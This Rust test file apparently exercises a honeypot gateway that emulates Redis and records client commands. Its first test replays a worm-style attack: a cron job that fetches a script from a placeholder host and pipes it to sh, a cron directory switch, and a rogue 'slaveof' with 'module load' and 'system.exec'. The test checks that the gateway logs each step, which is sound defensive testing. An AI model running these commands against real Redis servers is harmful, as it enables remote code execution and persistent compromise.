//! Redis, as redis-cli and Python's client use it.

use serde_json::{Value, json};
use testkit::Gateway;
use testkit::programs::{run, shell};

const SINKGATE: &str = env!("CARGO_BIN_EXE_sinkgate");

/// The interpreter that packages are installed for.
const PYTHON: &str = "/usr/bin/python3";

/// Nobody has this address.
const SERVER: &str = "203.0.113.79";

fn start(programs: &[&str], arguments: &[&str]) -> Option<Gateway> {
    Gateway::start(SINKGATE, programs, arguments)
}

#[test]
#[ignore = "end to end: needs root"]
fn redis_cli_does_what_worms_do() {
    let Some(gateway) = start(&["redis-cli"], &[]) else { return };
    let victim = &gateway.network.victim;
    let cli = |line: &str| shell(victim, &format!("redis-cli -h {SERVER} {line}")).stdout;
    let job = "*/2 * * * * root curl -fsSL http://198.51.100.9/b2f628/b.sh | sh";
    assert_eq!(cli(&format!("-a s3cret --no-auth-warning set backup \"{job}\"")), "OK\n");
    assert_eq!(cli("config set dir /var/spool/cron"), "OK\n");
    assert_eq!(cli("config get dir"), "dir\n/var/lib/redis\n", "another connection");
    let piped = shell(
        victim,
        &format!(
            "printf 'slaveof 198.51.100.9 8888\\nmodule load /tmp/exp.so\\nsystem.exec id\\nsave\\n' \
             | redis-cli -h {SERVER} -p 16379"
        ),
    );
    assert_eq!(piped.stdout, "OK\nOK\n\nOK\n");
    assert!(cli("-3 info server").contains("redis_version:6.0.16"));
    let given = gateway.database.details("credentials.given", 1);
    assert_eq!(given[0]["secret"], "s3cret");
    gateway.database.expect(
        "SELECT details ->> 'command' AS command FROM event WHERE kind = 'service.command'
         AND details ->> 'command' NOT LIKE 'COMMAND%' ORDER BY time",
        &json!([
            {"command": format!("set backup \"{job}\"")},
            {"command": "config set dir /var/spool/cron"},
            {"command": "config get dir"},
            {"command": "slaveof 198.51.100.9 8888"},
            {"command": "module load /tmp/exp.so"},
            {"command": "system.exec id"},
            {"command": "save"},
            {"command": "info server"},
        ]),
    );
    gateway.database.expect(
        "SELECT source, name, bytes FROM artifact",
        &json!([{"source": "stored-value", "name": "backup", "bytes": job.len()}]),
    );
}

#[test]
#[ignore = "end to end: needs root"]
fn pythons_client_stores_and_finds() {
    let programs = [PYTHON, "/usr/lib/python3/dist-packages/redis/__init__.py"];
    let Some(gateway) = start(&programs, &[]) else { return };
    let script = format!(
        "import json, redis\n\
         client = redis.Redis('{SERVER}', password='s3cret', username='app', socket_timeout=20)\n\
         client.set('a', 1, ex=100)\n\
         client.incrby('a', 41)\n\
         client.hset('h', mapping={{'x': 'y'}})\n\
         client.rpush('jobs', 'one', 'two')\n\
         with client.pipeline() as pipe:\n\
         \x20   pipe.get('a')\n\
         \x20   pipe.ttl('a')\n\
         \x20   pipe.hgetall('h')\n\
         \x20   found = pipe.execute()\n\
         found = [found[0].decode(), found[1], list(found[2])[0].decode()]\n\
         found += [client.blpop('jobs', 5)[1].decode(), client.blpop('none', 1)]\n\
         found += [sorted(key.decode() for key in client.scan_iter('*'))]\n\
         found += [client.info('replication')['role'], client.config_get('port')['port']]\n\
         print(json.dumps(found))"
    );
    let found = run(&gateway.network.victim, PYTHON, &["-c", &script]);
    assert!(found.status.success(), "{found:?}");
    let found: Value = serde_json::from_str(&found.stdout).unwrap();
    assert_eq!(found, json!(["42", 100, "x", "one", null, ["a", "h", "jobs"], "master", "6379"]));
    let given = gateway.database.details("credentials.given", 1);
    assert_eq!((&given[0]["user"], &given[0]["secret"]), (&json!("app"), &json!("s3cret")));
}

#[test]
#[ignore = "end to end: needs root"]
fn logins_are_refused_where_that_is_set() {
    let Some(gateway) = start(&["redis-cli"], &["--set", "redis.accept=never"]) else { return };
    let line = format!("redis-cli -h {SERVER} -a s3cret ping 2>&1");
    let said = shell(&gateway.network.victim, &line).stdout;
    assert!(said.contains("WRONGPASS"), "{said}");
    assert_eq!(gateway.database.details("credentials.given", 1)[0]["secret"], "s3cret");
}
